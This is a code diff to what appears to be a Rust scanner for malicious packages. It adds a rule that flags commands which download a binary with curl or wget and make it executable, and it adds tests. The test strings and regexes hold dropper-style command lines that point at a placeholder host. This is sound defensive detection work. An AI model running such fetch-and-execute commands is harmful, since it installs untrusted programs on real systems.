@@ -105,6 +105,18 @@ pub fn is_dangerous_command(command: &str) -> bool {
         || FETCH_TOOL.is_match(command) && FETCH_TARGET.is_match(command)
 }
 
+/// `wget -qO /tmp/x URL && chmod +x /tmp/x`: a binary fetched and made executable in one
+/// command line. Installers pipe scripts to a shell; only droppers fetch an unnamed program and
+/// mark it executable.
+fn fetches_and_marks_executable(command: &str) -> bool {
+    static SAVE: LazyLock<Regex> = crate::static_regex!(
+        r"(?i)\b(curl|wget)\b.*(\s-[a-z]*[oO]\b|--output|--output-document|>)"
+    );
+    static MARK: LazyLock<Regex> =
+        crate::static_regex!(r"(?i)\bchmod\s+([0-7]*[1357][0-7]*|[ugoa]*\+[rw]*x)");
+    SAVE.is_match(command) && MARK.is_match(command)
+}
+
 /// A command that starts a program file the package dropped or fetched: a Windows executable
 /// or script, or a script under /tmp.
 fn starts_dropped_file(command: &str) -> bool {
@@ -195,7 +207,9 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
                     }
                 }
                 ExecContext::Runtime => {
-                    if is_dangerous_command(partial) {
+                    if fetches_and_marks_executable(partial) {
+                        0.75
+                    } else if is_dangerous_command(partial) {
                         0.5
                     } else {
                         0.1
@@ -355,6 +369,7 @@ fn classify_command(
             // that only a caller triggers still weighs less than loading code.
             match context {
                 ExecContext::Install | ExecContext::Import => 0.9,
+                ExecContext::Runtime if fetches_and_marks_executable(command) => 0.75,
                 ExecContext::Runtime => 0.6,
                 ExecContext::TestOrDocs => 0.2,
             },
@@ -515,6 +530,22 @@ mod tests {
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.6);
         let plain = "import os\nos.system('type nul > x.txt')\n";
         assert!(max_severity("p/setup.py", plain, "WH120") < 0.2);
+    }
+
+    #[test]
+    fn fetched_binaries_made_executable_are_droppers_whoever_calls_them() {
+        assert!(fetches_and_marks_executable(
+            "wget -qO /tmp/a https://x.invalid/bwt2 && chmod +x /tmp/a"
+        ));
+        assert!(fetches_and_marks_executable(
+            "curl -L -s --output /tmp/a https://x.invalid/b && chmod 755 /tmp/a"
+        ));
+        assert!(!fetches_and_marks_executable(
+            "curl -sSf https://x.invalid/i.sh | sh"
+        ));
+        assert!(!fetches_and_marks_executable("chmod +x build.sh"));
+        let code = "import subprocess\ndef go(f):\n    subprocess.run(f'wget -qO /tmp/{f} https://x.invalid/b && chmod +x /tmp/{f}', shell=True)\n";
+        assert!(max_severity("p/pkg/m.py", code, "WH120") >= 0.75);
     }
 
     #[test]
